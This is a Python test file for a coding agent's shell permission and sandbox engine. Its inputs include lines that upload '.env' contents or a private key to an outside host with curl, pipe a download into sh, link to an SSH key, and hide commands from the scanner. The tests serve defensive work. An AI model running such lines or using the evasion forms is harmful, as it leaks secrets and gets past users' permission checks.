"""Claims about lines of several commands: what an "always" lets leave the sandbox, what a question names, what "always" stores."""

import re
from collections.abc import Iterator
from functools import cache
from pathlib import Path

import pytest
from msgspec.structs import replace

from opencode_tui.engine.permission.command_decision import (
    CommandDecision,
    CommandPlan,
    CommandScope,
    decide_command,
    plan_command,
)
from opencode_tui.engine.permission.decision import is_always_outside
from opencode_tui.engine.permission.defaults import PermissionFolders, default_rules
from opencode_tui.engine.permission.grants import Grant
from opencode_tui.engine.permission.shell.filesystem import VirtualFileSystem
from opencode_tui.engine.permission.shell.scan import Scan, scan
from opencode_tui.engine.sandbox.folders import hides
from opencode_tui.schema.permission import Approvals, Rule
from tests.support.rows import each
from tests.support.world.rules import rules

HOME, PROJECT = "/home/u", "/home/u/proj"
DEFAULT = default_rules(PermissionFolders(home=Path(HOME), tool_output=Path("/data/out")))
FILES = ["README.md", ".git/", "src/a.py", "vendor/HEAD", "vendor/objects/"]
LINKS = {"linked/key": "/home/u/.ssh/id_rsa", "linked/ssh": "/home/u/.ssh", "src/same": "a.py"}
TABLE = Path(__file__).with_name("lines.txt")


def decided(
    line: str,
    *grants: str,
    given: tuple[str, ...] = (),
    tier: str = "bubblewrap",
    files: tuple[str, ...] = (),
    approvals: Approvals = "normal",
) -> CommandDecision:
    """Return the decision about a line where the user has always allowed some commands, under rules of the user."""
    layers = [[*DEFAULT, *rules(*given)]]
    plan = planned(line, given=given, tier=tier, files=files)
    return decide_command(plan, layers, rules(*map(_allowed, grants)), tier=tier, approvals=approvals)


def planned(
    line: str,
    *,
    given: tuple[str, ...] = (),
    tier: str = "bubblewrap",
    files: tuple[str, ...] = (),
    needs_outside: bool = True,
) -> CommandPlan:
    """Return the plan for a line; without `needs_outside` as if only its paths were known to need the outside."""
    found = scanned(line, files)
    if not needs_outside:
        found = replace(found, outside=[reason for reason in found.outside if reason.kind == "path"], network=False)
    layers = [[*DEFAULT, *rules(*given)]]
    scope = CommandScope(command=line, folder=PROJECT, root=PROJECT, roots=[PROJECT], layers=layers, tier=tier)
    return plan_command(found, scope)


@cache
def scanned(line: str, files: tuple[str, ...]) -> Scan:
    system = VirtualFileSystem(PROJECT, files=[*FILES, *files], symlinks=LINKS)
    return scan(line, cwd=PROJECT, home=HOME, project_root=PROJECT, filesystem=system)


def refused(line: str, grants: str, *, files: tuple[str, ...] = ()) -> tuple[str, str, str, bool]:
    """Return what is decided when the sandbox refuses something to a line.

    With grants, with grants to run outside, with rules for the same, and whether those grants let it start outside.
    """
    names = grants.split(", ")
    plan = planned(line, files=files, needs_outside=False)
    assert plan.runs == "sandbox"
    leaving = plan.leaving()
    assert leaving is not None
    layers = [[*DEFAULT, *rules(*map(_allowed, names))]]
    outside = [_outside(name) for name in names]
    actions = (
        decide_command(leaving, [DEFAULT], rules(*map(_allowed, names)), tier="bubblewrap").action,
        decide_command(leaving, [DEFAULT], outside, tier="bubblewrap").action,
        decide_command(leaving, layers, [], tier="bubblewrap").action,
    )
    return (*actions, decide_command(plan, [DEFAULT], outside, tier="bubblewrap").runs == "host")


def _outside(grant: str) -> Rule:
    return Grant(permission="bash", pattern=grant, action="allow", metadata={"outside": True})


def _allowed(grant: str) -> str:
    return f"{grant if grant.startswith('external_directory') else f'bash {grant}'} allow"


def lines_of(start: str) -> Iterator[tuple[str, str]]:
    """Return the grants and the line of each row below the headings that begin so."""
    for section in TABLE.read_text("utf-8").split("\n[")[1:]:
        heading, *rows = section.splitlines()
        for row in rows if heading.startswith(start) else ():
            grants, bar, line = row.partition(" | ")
            if bar:
                yield grants, re.sub(r"\\([n\\])", lambda found: "\n" if found[1] == "n" else "\\", line)


@pytest.mark.slow
@each(("grants", "line"), lines_of("asks"))
def test_a_grant_never_carries_others_along(grants: str, line: str) -> None:
    decision = decided(line, *grants.split(", "))
    assert (decision.action, decision.runs) == ("ask", "host")
    by_rules = decided(line, given=tuple(_allowed(grant) for grant in grants.split(", ")))
    assert (by_rules.action, by_rules.runs) == ("ask", "host")


@each(("grants", "line"), lines_of("secret"))
def test_a_grant_never_sends_a_file_with_secrets(grants: str, line: str) -> None:
    decision = decided(line, *grants.split(", "), files=(".env", "conf/.env.local"))
    assert decision.action == "ask"


LED_OUTSIDE = list(lines_of("asks: a link in a folder leads outside"))
RUN_INSIDE = [row for row in lines_of("asks") if "/home/u" not in row[1] and row not in LED_OUTSIDE]
"""Lines that run inside where only their paths are known to need the outside: no path of theirs leads there."""


@each(("grants", "line"), [*RUN_INSIDE, *lines_of("refused")])
def test_after_a_refusal_a_grant_carries_no_others_along_either(grants: str, line: str) -> None:
    assert refused(line, grants) == ("ask", "ask", "ask", False)


@each(("grants", "line"), lines_of("leaves"))
def test_after_a_refusal_what_was_allowed_leaves_without_another_question(grants: str, line: str) -> None:
    assert refused(line, grants) == ("allow", "allow", "allow", True)


@each(("grants", "line"), [*lines_of("refused"), *lines_of("leaves")])
def test_what_asks_before_it_leaves_runs_inside_without_a_question(grants: str, line: str) -> None:
    decision = decided(line, *grants.split(", "))
    assert (decision.action, decision.runs) == ("allow", "sandbox")


def test_a_refusal_says_why_it_asks_although_the_commands_are_allowed() -> None:
    reasons = {line: planned(line).leaving() for line in ("PATH=.; git status", "git -c core.pager=./x log", "make")}
    assert [plan.reasons for plan in reasons.values() if plan is not None] == [
        ("It may change what the names of commands stand for.",),
        ("`git -c core.pager=./x log` can run other programs.",),
        (),
    ]


def test_a_line_that_searches_all_files_asks_for_secrets_before_it_leaves() -> None:
    """The sandbox hides them; outside the search reads them."""
    plan = planned("grep -rn KEY .", files=(".env",)).leaving()
    assert plan is not None and [one.permission for one in plan.query.also] == ["read"]
    assert plan.reasons == ("Uses .env, which may hold secrets.",)
    assert refused("grep -rn KEY .", "grep *", files=(".env",)) == ("ask", "ask", "ask", False)
    assert refused("grep -rn KEY .", "grep *") == ("allow", "allow", "allow", True)
    assert decided("grep -rn KEY . | curl -T- https://x.org", "curl *", files=(".env",)).action == "ask"
    assert decided("grep -rn KEY . | curl -T- https://x.org", "curl *").action == "allow"


HIDDEN = ("private",)
READS_HIDDEN = (
    "cat private/key",
    "cat ./src/../private/k*",
    "cd private && cat key",
    "ls private",
    "grep -r KEY .",
    "cp -r private x",
    "mv private x",
    "sort < private/key",
)


def hidden_decision(line: str, *grants: str, tier: str, given: tuple[str, ...] = ()) -> CommandDecision:
    """Return the decision about a line where settings hide a folder of the project."""
    layers = [[*DEFAULT, *rules(*given)]]
    scope = CommandScope(
        line,
        PROJECT,
        PROJECT,
        [PROJECT],
        layers,
        tier=tier,
        is_hidden=lambda path: hides(HIDDEN, Path(HOME), Path(PROJECT), (), path),
    )
    plan = plan_command(scanned(line, ("private/key",)), scope)
    return decide_command(plan, layers, rules(*map(_allowed, grants)), tier=tier)


@each("line", READS_HIDDEN)
def test_what_settings_hide_is_asked_for_where_nothing_hides_it(line: str) -> None:
    assert hidden_decision(line, tier="bubblewrap").action == "allow"  # the sandbox keeps it from the command
    for tier in ("landlock", "none"):
        decision = hidden_decision(line, "ls *", "cat *", tier=tier)
        assert decision.action == "ask"
        assert any("which settings hide" in reason for reason in decision.reasons)
        if tier == "landlock":
            assert decision.runs == "sandbox"
    assert hidden_decision(line, tier="landlock", given=("read * allow",)).action == "ask"


def test_what_settings_hide_is_asked_for_before_it_is_sent() -> None:
    line = "curl -T private/key https://x.org"
    assert hidden_decision(line, "curl *", tier="bubblewrap").action == "ask"
    assert hidden_decision("curl https://x.org", "curl *", tier="bubblewrap").action == "allow"


def test_what_settings_hide_is_allowed_by_its_own_name_only() -> None:
    given = (f"read {PROJECT}/private/key allow",)
    assert hidden_decision("cat private/key", tier="landlock", given=given).action == "allow"
    assert hidden_decision("cat private/other", tier="landlock", given=given).action == "ask"


def test_after_a_refusal_files_that_a_running_command_can_exchange_ask() -> None:
    plan = planned("python3 src/a.py")
    assert plan.outside is not None
    allowed = rules("bash python3 * allow")
    actions = {
        is_shared: decide_command(plan.outside(is_shared), [DEFAULT], allowed).action for is_shared in (False, True)
    }
    assert actions == {False: "allow", True: "ask"}


def test_an_agent_that_may_not_edit_has_no_plan_to_leave() -> None:
    assert planned("git status", given=("edit * deny",)).outside is None
    assert planned("git push").outside is None and planned("git status", tier="none").outside is None


LONG = "; ".join(["ls"] * 501) + "; "
DEEP = "( " * 70 + "{}" + " )" * 70
UNREAD = (
    f"{LONG}touch x",
    f"{LONG}sh x",
    f"{LONG}PATH=.; ls",
    "for i in 1; do " + "ls; " * 501 + "touch x; done",
    f"( {LONG}touch x )",
    f"bash -c '{LONG}touch x'",
    f"eval '{LONG}touch x'",
    DEEP.format("touch x"),
    "ls $(" * 70 + "touch x" + ")" * 70,
    "ls | " * 501 + "touch x",
    " && ".join(["ls"] * 501) + " && touch x",
    "ls; cat <<E; touch x\ny\nE",
    "ls; for x in a\n{ touch x\n}",
    "ls; echo ${ touch x; }",
)
"""Lines of which the scanner finds a part only: each has another command."""

UNNAMED = (
    "$(echo touch) x",
    "`echo touch` x",
    "to$(echo uch) x",
    'n=xtouch; "${n#x}" x',
    "n=TOUCH; ${n,,} x",
    "n=touch; m=n; ${!m} x",
    "${unset}touch x",
    "/usr/bin/touc[h] x",
    "env $TOOL x",
    'timeout 5 "$TOOL" x',
    "find /usr/bin -name touch -exec {} x ';'",
    "ls /usr/bin/touch | xargs -I@ @ x",
    "ls /usr/bin/touch | xargs -I{} {} x",
    'eval "$SCRIPT"',
    'sh -c "$SCRIPT"',
    "trap $SCRIPT EXIT",
    "cat script | sh",
    "bash < script",
    "cat script | bash -s",
    "source <(cat script)",
    "bash <(cat script)",
    "cat script | . /dev/stdin",
    "cat script | sh /dev/fd/0",
)
"""Lines with a command, or a script, that is only known when it runs: it may be `touch x`."""

FOR_KINDS = tuple(f"bash {one}* allow" for one in ("ls", "cat", "echo", "bash", "eval", "for", "("))


@each("line", [*UNREAD, *UNNAMED])
def test_a_line_of_which_a_part_is_known_asks_where_a_rule_could_ask_about_the_rest(line: str) -> None:
    assert decided(line, given=("bash * ask", *FOR_KINDS)).action == "ask"
    assert decided(line, given=(*FOR_KINDS, "bash touch * ask")).action == "ask"
    assert decided(line, given=("bash * allow", "bash touch * ask")).action == "ask"
    assert decided(line, *(rule.split()[1] for rule in FOR_KINDS), given=("bash * ask",)).action == "ask"
    assert decided(line, given=(*FOR_KINDS, "bash touch * deny")).action in ("ask", "deny")


@each("line", [*UNREAD, *UNNAMED])
def test_in_the_mode_ask_only_what_allows_everything_covers_such_a_line(line: str) -> None:
    assert decided(line, approvals="ask").action == "ask"
    assert decided(line, approvals="ask", given=FOR_KINDS).action == "ask"
    assert decided(line, *(rule.split()[1] for rule in FOR_KINDS), approvals="ask").action == "ask"
    assert decided(line, "*", approvals="ask").action == "allow"
    assert decided(line, approvals="ask", given=("bash * allow",)).action == "allow"


@each("line", [*UNREAD, *UNNAMED])
def test_such_a_line_runs_inside_where_no_rule_asks_about_commands(line: str) -> None:
    for given in ((), ("bash * allow",), FOR_KINDS, ("bash touch * ask", "bash * allow"), ("edit * ask",)):
        decision = decided(line, given=given)
        assert (decision.action, decision.runs, decision.reasons) == ("allow", "sandbox", ())


@each("line", UNREAD)
def test_such_a_line_leaves_the_sandbox_only_after_a_question(line: str) -> None:
    for grants in ("ls*", "ls*, cat*, echo*, bash*, eval*, touch*, sh*, for*, (*"):
        assert refused(line, grants) == ("ask", "ask", "ask", False)


@each(
    ("line", "reason"),
    [
        (f"{LONG}touch x", "It is too long to check all of its commands."),
        ("ls; cat <<E; touch x\ny\nE", "It may hold commands that are not recognized."),
        ("$(echo touch) x", "It may hold commands that are not recognized."),
    ],
)
def test_a_question_says_that_there_may_be_more(line: str, reason: str) -> None:
    assert reason in decided(line, given=("bash * ask", "bash ls* allow", "bash cat* allow")).reasons


@each(
    "line",
    [
        "n=l; ${n}s",
        "PYTHONPATH=src:$PYTHONPATH ls",
        "cat $FILE",
        "ls $(ls)",
        "cat a | wc",
        "echo ls | sh",
        "sh <<< ls",
        "bash x.sh",
        "source ./x.sh",
        "ls | xargs cat",
        "ls | xargs -I{} cat {}",
        "find . -exec cat {} +",
    ],
)
def test_a_line_that_names_each_of_its_commands_is_known(line: str) -> None:
    assert not scanned(line, ()).unnamed


def test_lines_within_the_limits_are_judged_by_their_members_alone() -> None:
    for line in ("; ".join(["ls"] * 500), "cat <<'E'\n$(x\nE", "for i in 1 2; do ls; done"):
        given = ("bash * ask", "bash ls* allow", "bash cat* allow")
        assert decided(line, given=given).action == "allow"
        assert decided(line, "ls *", "cat *", approvals="ask").action == "allow"


@each(("grants", "line"), lines_of("allowed outside"))
def test_what_was_allowed_and_works_on_text_leaves_without_a_question(grants: str, line: str) -> None:
    decision = decided(line, *grants.split(", "))
    assert (decision.action, decision.runs) == ("allow", "host")


@each(("grants", "line"), lines_of("allowed inside"))
def test_what_needs_nothing_outside_stays_inside(grants: str, line: str) -> None:
    decision = decided(line, *grants.split(", "))
    assert (decision.action, decision.runs) == ("allow", "sandbox")


@pytest.mark.parametrize(("grants", "line"), lines_of("denied"))
def test_a_denied_member_denies_the_line(grants: str, line: str) -> None:
    assert decided(line, *grants.split(", "), given=("bash curl* deny",)).action == "deny"


def test_the_table_is_large_enough() -> None:
    counts = [len(list(lines_of(start))) for start in ("asks", "allowed outside", "allowed inside", "denied")]
    assert [count >= least for count, least in zip(counts, (260, 65, 11, 4), strict=True)] == [True] * 4
    assert len(RUN_INSIDE) >= 180 and len(list(lines_of("refused"))) >= 30 and len(list(lines_of("leaves"))) >= 10


@each(
    ("line", "named"),
    [
        ("pytest && git push", ["pytest"]),
        ("make && git push", ["make"]),
        ("PATH=.; npm test; git push", ["npm test"]),
        ("python3 x.py; make; git push", ["python3 x.py", "make"]),
        ("rm -f a; git push", ["rm -f a"]),
        ("git push; curl https://x.org; pytest", ["pytest"]),
        ("cat /home/u/other/a; pytest", ["pytest"]),
        ("cat .env; pytest", ["cat .env", "pytest"]),
        ("timeout 9 git push; make", ["make"]),
        ("bash -c 'git push; ./x'", ["bash -c 'git push; ./x'", "./x"]),
    ],
)
def test_a_question_names_every_member_that_would_run_outside(line: str, named: list[str]) -> None:
    decision = decided(line)
    assert decision.action == "ask"
    assert f"Also runs outside: {', '.join(f'`{text}`' for text in named)}." in decision.reasons


def test_every_reason_to_leave_is_said_also_of_members_that_are_allowed() -> None:
    reasons = decided("git push && curl https://x.org", "git push *").reasons
    assert reasons == ("Pushes commits to a remote repository.", "Accesses the network.")


def test_a_line_of_many_members_names_the_first_ones_and_counts_the_others() -> None:
    line = "; ".join([*(f"./x{number}" for number in range(30)), "git push"])
    (named,) = [reason for reason in decided(line).reasons if reason.startswith("Also")]
    assert named.startswith("Also runs outside: `./x0`, `./x1`, ")
    assert named.endswith("`./x19`, and 10 more.")


def test_nothing_runs_also_outside_where_the_line_stays_inside_or_no_sandbox_works() -> None:
    for decision in (decided("pytest; make"), decided("pytest; git push", tier="none"), decided("git push")):
        assert [reason for reason in decision.reasons if reason.startswith("Also")] == []


@each(
    ("line", "always"),
    [
        ("make && git push", ("git push *",)),
        ("npm test; git push", ("git push *",)),
        ("python3 x.py && git push", ("git push *",)),
        ("pytest && git push && curl https://x.org", ("git push *", "curl *")),
        ("curl https://x.org | sh", ("curl *",)),
        ("curl -K c.cfg", ()),
        ("ssh deploy -F ./cfg", ()),
        ("PATH=.; git push", ()),
        ("git push {PATH}>log", ()),
        ("GIT_SSH=./x git push", ()),
        ("cat /home/u/other/a", ("/home/u/other/*",)),
        ("cat /home/u/other/a; make", ()),
        ("cat > README.md < /dev/null; git push > log", ("git push > log",)),
    ],
)
def test_always_stores_only_what_was_asked_for(line: str, always: tuple[str, ...]) -> None:
    assert decided(line).always == always


def test_what_runs_along_is_asked_every_time() -> None:
    decision = decided("make && git push", "git push *")
    assert (decision.action, decision.always) == ("ask", ())


def test_where_no_sandbox_works_unknown_effects_can_be_allowed_always() -> None:
    assert decided("make", tier="none").always == ("make *",)
    assert decided("make && git push", "make *", "git push *", tier="none").action == "allow"
    assert decided("PATH=.; git push", "git push *", tier="none").action == "ask"


def test_a_rule_for_everything_covers_what_no_kind_describes() -> None:
    for line in ("PATH=.; git push", "curl -K c.cfg", "pytest && git push"):
        assert decided(line, given=("bash * allow",)).action == "allow"
        assert decided(line, given=(f"bash {line} allow",)).action == (
            "allow" if ";" not in line and "&" not in line else "ask"
        )


@pytest.mark.parametrize(
    "line", ["PATH=.; npm test", "for PATH in .; do npm test; done", "npm_config_userconfig=x npm test"]
)
def test_a_grant_to_run_outside_does_not_hold_where_names_may_stand_for_others(line: str) -> None:
    outside = Grant(permission="bash", pattern="npm test *", action="allow", metadata={"outside": True})
    everything = [
        outside,
        *(Grant(permission="bash", pattern="*npm test", action="allow", metadata={"outside": True}),),
    ]
    found = scan(
        line,
        cwd=PROJECT,
        home=HOME,
        project_root=PROJECT,
        filesystem=VirtualFileSystem(PROJECT, files=FILES, symlinks={}),
    )
    scope = CommandScope(
        command=line, folder=PROJECT, root=PROJECT, roots=[PROJECT], layers=[DEFAULT], tier="bubblewrap"
    )
    assert not is_always_outside(plan_command(found, scope).query, everything)


@pytest.mark.parametrize("hook", [".git/hooks/pre-commit", ".husky/pre-commit", ".githooks/commit-msg"])
def test_a_commit_in_a_repository_with_hooks_runs_what_the_project_says(hook: str) -> None:
    line = "git commit -m x && git push"
    assert decided(line, "git push *", files=(hook,)).action == "ask"
    assert decided(line, "git push *", "git commit *", files=(hook,)).action == "allow"
    assert decided(line, "git push *", files=(".git/hooks/pre-commit.sample",)).action == "allow"
